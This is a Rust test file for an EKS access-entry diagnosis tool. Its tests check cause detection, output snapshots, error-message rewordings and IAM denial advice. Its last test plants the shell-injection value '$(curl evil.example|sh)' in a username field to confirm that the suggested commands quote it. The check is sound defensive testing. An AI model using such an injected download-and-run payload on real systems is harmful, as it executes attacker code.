@@ -1,0 +1,155 @@
+//! Every cause: its fixture diagnoses to its id, and its rendered output is
+//! snapshot-tested in each format. Wording variants and no-finding cases.
+
+mod support;
+
+use eks_access_doctor::catalogue::{all_causes, cause_by_id};
+use eks_access_doctor::render::{json, markdown, slack, sns, text};
+use serde_json::json;
+use support::*;
+
+#[test]
+fn every_cause_has_a_fixture_diagnosed_to_its_id() {
+    for cause in all_causes() {
+        let d = diagnose(fixture_event(&format!("{}.json", cause.id)));
+        assert_eq!(cause_ids(&d).first(), Some(&cause.id), "fixture for {}", cause.id);
+        assert_eq!(d.findings[0].severity(), cause.severity);
+    }
+}
+
+#[test]
+fn ids_are_unique_and_the_required_ones_exist() {
+    let ids: Vec<_> = all_causes().map(|c| c.id).collect();
+    let mut sorted = ids.clone();
+    sorted.sort();
+    sorted.dedup();
+    assert_eq!(sorted.len(), ids.len(), "duplicate cause id");
+    for required in [
+        "auth-mode-irreversible", "missing-iam-permission", "config-map-migration-notice", "node-type-requires-role",
+        "reserved-username-prefix", "reserved-group-prefix", "unbound-kubernetes-group", "service-linked-role",
+        "access-policy-requires-standard", "access-entry-already-exists", "access-entries-disabled",
+        "creator-admin-required-for-config-map", "unclassified",
+    ] {
+        assert!(cause_by_id(required).is_some(), "{required} missing");
+    }
+}
+
+#[test]
+fn rendered_output_of_every_cause_is_stable() {
+    for cause in all_causes() {
+        let d = diagnose(fixture_event(&format!("{}.json", cause.id)));
+        let f = &d.findings[0];
+        insta::assert_snapshot!(format!("{}.text", cause.id), text::render(&d, false));
+        insta::assert_snapshot!(format!("{}.markdown", cause.id), markdown::render(&d));
+        insta::assert_json_snapshot!(format!("{}.json", cause.id), json::diagnosis(&d));
+        insta::assert_json_snapshot!(format!("{}.slack", cause.id), slack::payload(&d, f));
+        insta::assert_json_snapshot!(format!("{}.sns", cause.id), sns::message(&d, f));
+    }
+}
+
+#[test]
+fn explicit_deny_variant_gets_organization_advice() {
+    let d = diagnose(fixture_event("missing-iam-permission-explicit-deny.json"));
+    assert_eq!(cause_ids(&d), ["missing-iam-permission"]);
+    let f = &d.findings[0];
+    assert!(f.explanation.contains("explicit Deny in a service control policy"), "{}", f.explanation);
+    assert!(f.steps.iter().any(|s| s.contains("Organizations administrators")));
+    assert_eq!(f.iam_policy.as_ref().unwrap()["Statement"][0]["Action"], "eks:AssociateAccessPolicy");
+}
+
+/// (fixture, new errorCode, new errorMessage, expected cause)
+const WORDINGS: &[(&str, &str, &str, &str)] = &[
+    ("reserved-username-prefix", "InvalidParameterException", "The username must not begin with [eks:, aws:, system:, amazon:, iam:].", "reserved-username-prefix"),
+    ("reserved-username-prefix", "InvalidParameterException", "The username must not begin with eks:", "reserved-username-prefix"),
+    ("reserved-username-prefix", "InvalidParameterException", "the Username must NOT begin with 'amazon:'", "reserved-username-prefix"),
+    ("reserved-group-prefix", "InvalidParameterException", "The kubernetes group name system:bootstrappers is invalid, it cannot start with system:", "reserved-group-prefix"),
+    ("reserved-group-prefix", "InvalidParameterException", "The Kubernetes group name \"eks:admins\" is invalid; it cannot start with eks:.", "reserved-group-prefix"),
+    ("node-type-requires-role", "InvalidParameterException", "AccessEntry principalArn must be IAM role when using types [EC2_LINUX, EC2_WINDOWS, FARGATE_LINUX].", "node-type-requires-role"),
+    ("node-type-requires-role", "InvalidParameterException", "AccessEntry principalArn must be IAM role when using types [EC2_LINUX, EC2_WINDOWS, FARGATE_LINUX, HYBRID_LINUX, EC2]", "node-type-requires-role"),
+    ("auth-mode-irreversible", "InvalidParameterException", "Unsupported authentication mode update from API_AND_CONFIG_MAP to CONFIG_MAP.", "auth-mode-irreversible"),
+    ("auth-mode-irreversible", "InvalidParameterException", "Unsupported authentication mode update from API to CONFIG_MAP", "auth-mode-irreversible"),
+    ("auth-mode-irreversible", "InvalidParameterException", "Unsupported authentication mode update from API to API_AND_CONFIG_MAP.", "auth-mode-irreversible"),
+    ("auth-mode-irreversible", "InvalidParameterException", "Unsupported authentication mode update from CONFIG_MAP to API", "auth-mode-two-step"),
+    ("auth-mode-irreversible", "InvalidParameterException", "Unsupported authentication mode update from API to API", "auth-mode-unchanged"),
+    ("service-linked-role", "InvalidParameterException", "The caller is not allowed to modify access entries with a principalArn value of a Service Linked Role.", "service-linked-role"),
+    ("access-policy-requires-standard", "InvalidParameterException", "This operation can only be performed on Access Entries with a type of 'STANDARD'", "access-policy-requires-standard"),
+    ("access-entry-already-exists", "ResourceInUseException", "The specified access entry resource is already in use on this cluster", "access-entry-already-exists"),
+    ("access-entries-disabled", "InvalidRequestException", "The cluster's authentication mode must be set to one of [API, API_AND_CONFIG_MAP] to perform this operation", "access-entries-disabled"),
+    ("missing-iam-permission", "AccessDenied", "User: arn:aws:iam::111122223333:user/alice is not authorized to perform: eks:CreateAccessEntry on resource: arn:aws:eks:eu-west-1:111122223333:cluster/prod-eu with an explicit deny in a permissions boundary", "missing-iam-permission"),
+    ("missing-iam-permission", "AccessDeniedException", "User: arn:aws:iam::111122223333:user/alice is not authorized to perform: eks:CreateAccessEntry on resource: arn:aws:eks:eu-west-1:111122223333:cluster/prod-eu with an explicit deny in an identity-based policy", "missing-iam-permission"),
+    ("node-type-rejects-groups", "InvalidParameterException", "The specified username is invalid: setting username is not allowed when the type is \"EC2_LINUX\"", "node-type-rejects-groups"),
+    ("invalid-policy-arn", "InvalidParameterException", "The specified policyArn could not be found.", "invalid-policy-arn"),
+    ("access-scope-namespaces", "InvalidParameterException", "accessScope should not include namespaces if the type is not set as namespace", "access-scope-namespaces"),
+    ("unclassified", "InvalidParameterException", "Something entirely new went wrong", "unclassified"),
+];
+
+#[test]
+fn rewordings_still_match_their_cause() {
+    for (fixture, code, message, want) in WORDINGS {
+        let bytes = edited_fixture(&format!("{fixture}.json"), |record| {
+            record["errorCode"] = json!(code);
+            record["errorMessage"] = json!(message);
+        });
+        let d = diagnose(parse_one(&bytes));
+        assert_eq!(cause_ids(&d).first(), Some(want), "{message:?}");
+    }
+}
+
+#[test]
+fn denials_distinguish_where_the_refusal_came_from() {
+    let advice = |suffix: &str| {
+        let bytes = edited_fixture("missing-iam-permission.json", |record| {
+            record["errorMessage"] = json!(format!(
+                "User: arn:aws:sts::111122223333:assumed-role/PlatformDeployer/jdoe is not authorized to perform: eks:CreateAccessEntry on resource: arn:aws:eks:eu-west-1:111122223333:cluster/prod-eu {suffix}"
+            ));
+        });
+        diagnose(parse_one(&bytes)).findings[0].steps.join(" ")
+    };
+    assert!(advice("with an explicit deny in a service control policy").contains("organization"));
+    assert!(advice("with an explicit deny in a permissions boundary").contains("permissions boundary"));
+    assert!(advice("with an explicit deny in an identity-based policy").contains("Deny statement"));
+    assert!(advice("because no identity-based policy allows the eks:CreateAccessEntry action").contains("Add the statement"));
+}
+
+#[test]
+fn a_service_linked_principal_is_recognised_from_its_arn() {
+    let bytes = edited_fixture("unclassified.json", |record| {
+        record["requestParameters"]["principalArn"] = json!("arn:aws:iam::111122223333:role/aws-service-role/eks.amazonaws.com/AWSServiceRoleForAmazonEKS");
+    });
+    assert_eq!(cause_ids(&diagnose(parse_one(&bytes))).first(), Some(&"service-linked-role"));
+}
+
+#[test]
+fn sample_events_without_problems_produce_no_finding() {
+    for entry in std::fs::read_dir(events_dir().join("no-finding")).unwrap() {
+        let path = entry.unwrap().path();
+        let records = eks_access_doctor::input::parse_document(&std::fs::read(&path).unwrap());
+        for record in records {
+            match record.outcome.unwrap() {
+                eks_access_doctor::input::Parsed::Event(event) => {
+                    assert!(diagnose(*event).findings.is_empty(), "{}", path.display())
+                }
+                eks_access_doctor::input::Parsed::Ignored { .. } => {}
+            }
+        }
+    }
+}
+
+#[test]
+fn a_successful_update_that_only_sets_a_username_is_silent() {
+    let bytes = edited_fixture("unbound-kubernetes-group.json", |record| {
+        record["requestParameters"].as_object_mut().unwrap().remove("kubernetesGroups");
+    });
+    assert!(diagnose(parse_one(&bytes)).findings.is_empty());
+}
+
+#[test]
+fn commands_quote_hostile_values() {
+    let bytes = edited_fixture("reserved-username-prefix.json", |record| {
+        record["requestParameters"]["username"] = json!("system:$(curl evil.example|sh)");
+    });
+    let d = diagnose(parse_one(&bytes));
+    let commands = d.findings[0].commands.join("\n");
+    assert!(commands.contains("'$(curl evil.example|sh)'"), "{commands}");
+    assert!(!commands.contains(" $(curl"), "{commands}");
+}
